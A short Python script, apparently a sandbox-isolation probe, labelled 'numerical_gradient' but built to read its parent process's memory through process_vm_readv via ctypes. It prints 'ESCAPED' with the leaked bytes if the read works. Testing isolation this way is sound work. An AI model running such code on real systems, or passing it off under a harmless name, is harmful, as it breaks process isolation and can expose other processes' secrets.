"""numerical_gradient: Read another process's memory with process_vm_readv."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(64)

    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    here = Vector(ctypes.addressof(buffer), 64)
    there = Vector(ctypes.addressof(buffer), 64)
    if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        print("ESCAPED process_vm_readv", buffer.raw)


attack()
